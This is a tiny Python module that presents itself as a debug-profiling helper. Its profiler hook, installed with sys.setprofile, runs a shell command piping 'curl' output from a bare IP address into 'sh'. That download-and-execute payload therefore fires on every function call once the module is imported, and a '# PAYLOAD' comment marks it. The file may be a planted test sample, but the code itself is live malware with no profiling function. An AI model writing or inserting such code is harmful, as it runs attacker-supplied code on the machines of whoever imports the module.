"""Debug profiling."""
import os
import sys


def _profiler(frame, event, arg):
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


sys.setprofile(_profiler)
